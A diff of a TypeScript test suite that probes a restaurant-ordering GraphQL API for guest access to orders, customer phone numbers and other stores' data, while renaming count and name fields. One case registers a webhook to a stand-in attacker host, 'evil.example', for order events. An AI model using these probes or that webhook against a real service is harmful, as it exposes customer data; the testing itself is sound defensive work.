@@ -39,7 +39,7 @@ async function stream(transport: 'sse' | 'websocket', text: string): Promise<{ r
   };
 }
 
-const orders = 'orders { count nodes { id status price customer { name phone } items } }';
+const orders = 'orders { totalCount nodes { id status price customer { name phone } items } }';
 const persisted = `{ store(id: "baixa") { ${orders} } }`;
 const apq = { persistedQuery: { version: 1, sha256Hash: hash('sha256', persisted) } };
 const cached = '{ store(id: "baixa") { menuRevision items { externalId ingredients } } }';
@@ -60,12 +60,12 @@ const ways: Readonly<Record<string, () => Promise<unknown>>> = {
   'orders in another operation of the document': () =>
     app.post(
       '/graphql',
-      { query: `query A { stores { count } } query B { store(id: "baixa") { ${orders} } }`, operationName: 'B' },
+      { query: `query A { stores { totalCount } } query B { store(id: "baixa") { ${orders} } }`, operationName: 'B' },
       guest,
     ),
   'orders by GET': () => get(`/graphql?query=${encodeURIComponent(persisted)}`, { 'apollo-require-preflight': '1' }),
   'a filter that errs': () =>
-    query('{ store(id: "baixa") { orders(filter: { customerName: "a" }, first: 9999) { count } } }'),
+    query('{ store(id: "baixa") { orders(filter: { customerName: "a" }, first: 9999) { totalCount } } }'),
   'suggestions for misspelt fields': () =>
     query(`{ ordr(id: "${orderId}") { custmer } store(id: "baixa") { ordersRevison } }`),
   'revisions of orders': () => query('{ store(id: "baixa") { ordersRevision orderEventsCursor } }'),
@@ -92,8 +92,8 @@ const ways: Readonly<Record<string, () => Promise<unknown>>> = {
     return stream('sse', `subscription { menuEvents(storeId: "baixa", after: "${after}") { kind cursor } }`);
   },
   'events of another store': () =>
-    stream('websocket', 'subscription { menuEvents(storeId: "porto") { store { name } } }'),
-  'events of stores': () => stream('sse', 'subscription { storeEvents { store { name contacts } } }'),
+    stream('websocket', 'subscription { menuEvents(storeId: "porto") { store { name { text } } } }'),
+  'events of stores': () => stream('sse', 'subscription { storeEvents { store { name { text } contacts } } }'),
   'pages of events': () =>
     query('{ events { events { kind orderId status } } store(id: "baixa") { events { next } } }'),
   'the history': () =>
@@ -114,11 +114,13 @@ const ways: Readonly<Record<string, () => Promise<unknown>>> = {
     query(
       'mutation { createWebhook(input: { url: "https://evil.example/", storeId: "baixa", kinds: [ORDER_PLACED] }) { secret } }',
     ),
-  'another store': () => query('{ store(id: "porto") { id name } stores(search: "Porto") { count nodes { name } } }'),
-  'another store, through the merchant': () => query('{ merchants { nodes { stores { count nodes { name } } } } }'),
+  'another store': () =>
+    query('{ store(id: "porto") { id name { text } } stores(search: "Porto") { totalCount nodes { name { text } } } }'),
+  'another store, through the merchant': () =>
+    query('{ merchants { nodes { stores { totalCount nodes { name { text } } } } } }'),
   'another store, after its cursor': async () => {
     const { body } = await app.graphql('{ stores(first: 1) { pageInfo { startCursor } } }');
-    return query('query ($after: String) { stores(after: $after) { nodes { name } } }', {
+    return query('query ($after: String) { stores(after: $after) { nodes { name { text } } } }', {
       after: body.data.stores.pageInfo.startCursor,
     });
   },
@@ -161,7 +163,7 @@ const ways: Readonly<Record<string, () => Promise<unknown>>> = {
   ],
   'the cost of a search for a guest': () =>
     app.graphql(
-      '{ store(id: "baixa") { orders(filter: { customerName: "Ana" }) { count } } }',
+      '{ store(id: "baixa") { orders(filter: { customerName: "Ana" }) { totalCount } } }',
       {},
       { ...guest, 'x-carte-cost': '1' },
     ),
